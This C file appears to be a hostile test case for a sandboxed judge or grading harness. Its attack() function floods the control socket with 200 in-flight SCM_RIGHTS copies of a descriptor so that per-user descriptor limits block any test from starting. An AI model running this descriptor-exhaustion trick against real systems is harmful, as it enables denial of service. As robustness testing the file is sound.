// Passes descriptors to the judge. Those on their way count for all processes
// of the user: then no test could begin a life.
#include "tests/hostile/hostile.h"

#define DESCRIPTORS 200

static void attack(struct raft *rf)
{
    (void)rf;
    char byte = 0, control[CMSG_SPACE(DESCRIPTORS * sizeof(int))];
    struct iovec iov = { &byte, 1 };
    struct msghdr message = { .msg_iov = &iov,
                              .msg_iovlen = 1,
                              .msg_control = control,
                              .msg_controllen = sizeof control };
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    *rights = (struct cmsghdr){ CMSG_LEN(DESCRIPTORS * sizeof(int)), SOL_SOCKET,
                                SCM_RIGHTS };
    int *descriptors = (int *)CMSG_DATA(rights);
    for (int k = 0; k < DESCRIPTORS; k++)
        descriptors[k] = CONTROL_FD;
    sendmsg(CONTROL_FD, &message, MSG_NOSIGNAL);
}
